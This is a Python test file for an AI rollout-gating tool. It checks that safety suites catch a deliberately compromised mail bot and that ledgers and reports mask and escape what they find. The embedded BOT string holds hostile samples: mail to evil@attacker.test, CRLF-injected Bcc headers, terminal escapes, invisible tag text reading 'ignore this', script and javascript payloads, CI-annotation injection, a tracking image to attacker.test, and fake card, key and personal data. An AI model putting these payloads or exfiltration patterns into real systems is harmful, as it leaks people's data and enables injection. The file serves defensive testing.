"""Hostile mails and personal data, found by the safety suites: inert and masked in the ledger and every report."""

from __future__ import annotations

import json
import re
import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parent))
from rollout_world import Rollout, made

sys.path.pop(0)

CONTROL = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029\u200b-\u200f\U000e0000-\U000e007f]"
)
SECRETS = {
    "card": "4556 7375 8689 9855", "account": "DE89 3704 0044 0532 0130 00",
    "key": "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
    "customer": "Robert Quillfeather", "phone": "+49 151 23456789", "mail": "robert.q@elsewhere.test",
    "street": "17 Larkspur Lane",
}  # fmt: skip
PLAN = """\
schema_version: 1
name: shop
pipeline: {callable: bot:answer, capabilities: [mail, tools]}
subject: {code: {files: "*.py"}}
cases: cases.jsonl
tools: {order: {path: /order}}
stages:
  - name: preflight
    exposure: {live: false}
    requires: {suites: [headers, recipients, injection, pii]}
    criteria:
      crashes: {from: suite, promote: 0, max_rate: 90 %, min: 3}
      recipients.violations: {from: suite, promote: 0, max_rate: 90 %, rollback: confirmed, min: 3}
"""
BOT = """
import base64, logging, smtplib

SECRETS = %r
EVIL = "evil@attacker.test"
TAGS = "".join(chr(0xE0000 + ord(ch)) for ch in "ignore this")


def answer(input, context):
    host, port = context.endpoints["SLUICEGATE_SMTP"].split(":")
    with smtplib.SMTP(host, int(port)) as client:
        head = b"From: service@shop.test\\r\\n"
        head += b"To: ann@mail.test, <script>alert(1)</script> <evil@attacker.test>\\r\\n"
        head += b"Subject: Hi \\x1b[2J\\x1b]0;a\\x07 \\xe2\\x80\\xae\\xe2\\x80\\xa8 \\r\\nBcc: evil@attacker.test\\r\\n"
        head += b"X-\\x1b[31m: ::error::pwned ${{ secrets.T }} ](javascript:alert(2)) `id`\\r\\n"
        body = ", ".join(SECRETS.values()).encode()
        client.sendmail("evil@attacker.test", ["ann@mail.test", EVIL], head + b"\\r\\n" + body + b"\\0\\r\\n")
    said = ", ".join(SECRETS.values())
    logging.getLogger("shop").warning("said %%s \\x1b[2J", said)
    coded = base64.b64encode(SECRETS["card"].encode()).decode()
    subject = "Hi\\r\\nBcc: evil@attacker.test\\x1b[2J\\u202e\\u2028"
    markup = "![x](http://attacker.test/p.png) <script>alert(3)</script>"
    return {
        "content": f"{said} {coded} {SECRETS['card'][::-1]} {TAGS} {markup}",
        "mail": {"to": ["ann@mail.test", EVIL], "subject": subject, "body": said},
    }
"""


def a_case(number: int) -> dict[str, object]:
    result = {"email": SECRETS["mail"], **{key: value for key, value in SECRETS.items() if key != "mail"}}
    return {
        "id": f"c{number}",
        "input": {"n": number, "text": "I am ann@mail.test", "to": ["service@shop.test"]},
        "given": {"tool_results": [{"tool": "order", "result": result}]},
        "expect": {"recipients": ["ann@mail.test"], "sender": "service@shop.test", "link_hosts": ["shop.test"]},
    }


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory) -> Rollout:
    """A pipeline that was won over: it sends and says whatever it should not."""
    root = tmp_path_factory.mktemp("mails") / "shop"
    root.mkdir()
    root.joinpath("rollout.yaml").write_text(PLAN)
    rollout = Rollout(root)
    rollout.write("bot.py", BOT % (SECRETS,))
    rollout.write("cases.jsonl", "".join(json.dumps(a_case(number)) + "\n" for number in range(4)))
    rollout.lock()
    done = rollout.gate()
    assert done.code in (10, 20), done.text
    return rollout


def findings(shop: Rollout) -> list[dict[str, str]]:
    """Of the ledger, as they were recorded."""
    (ledger,) = shop.root.rglob("ledger*.jsonl")
    records = [json.loads(line) for line in ledger.read_bytes().splitlines()]
    return [found for record in records if record["kind"] == "checked" for found in record["findings"]]


def test_every_suite_has_found_something(shop: Rollout) -> None:
    """Else the reports would be inert for want of anything to show; secrets are found in answers and mails."""
    found = {each["check"] for each in findings(shop)}

    assert {"headers.names", "headers.bytes", "headers.shown", "recipients.envelope", "recipients.addresses"} <= found
    assert {"injection.links", "injection.invisible", "pii.answer", "pii.sent", "pii.log"} <= found


def test_the_ledger_s_findings_are_masked_and_escaped(shop: Rollout) -> None:
    """Place, message, excerpt and mend of each."""
    for each in findings(shop):
        said = "".join(str(value) for value in each.values())
        assert not CONTROL.search(said), each
        assert not [name for name, value in SECRETS.items() if value in said], each
        assert "evil@attacker.test" not in said, each


@pytest.mark.parametrize("form", ["text", "json", "markdown", "html", "junit"])
def test_every_report_is_masked_and_escaped(shop: Rollout, form: str) -> None:
    """No control character, no invisible one, no value of a person, no address, no markup of a stranger's."""
    text = shop.sound("report", shop.verdict(), "--format", form).out

    assert not CONTROL.search(text)
    assert not [name for name, value in SECRETS.items() if value in text or value.replace(" ", "") in text]
    assert "evil@attacker.test" not in text
    assert "headers.names" in text
    if form in ("markdown", "html", "junit"):
        assert "<script" not in text
    if form == "markdown":
        assert not [markup for markup in ("![", "](", "${{", "`id`") if markup in text]
    assert not [line for line in text.splitlines() if line.lstrip().startswith(("::", "##["))]


def test_the_platform_is_told_where_mails_are_judged(shop: Rollout) -> None:
    """Tried at the start, in the first record, and shown."""
    (ledger,) = shop.root.rglob("ledger*.jsonl")
    started = json.loads(ledger.read_bytes().splitlines()[0])

    assert started["mail_library"]["holes"]
    for form in ("text", "json", "markdown", "html"):
        assert f"({started['mail_library']['holes'][0]})" in re.sub(
            r"\s+|&#?\w+;", lambda found: " " if found[0].isspace() else "_",
            shop.sound("report", shop.verdict(), "--format", form).out.replace("\\_", "_"),
        )  # fmt: skip


def test_without_such_suites_nothing_is_tried(tmp_path: Path) -> None:
    """Neither the ledger nor a report of another plan has a word of it."""
    rollout = made(tmp_path / "shop")
    done = rollout.gate()

    assert "mail library" not in done.text
    assert "mail_library" not in rollout.ledger().read_text()
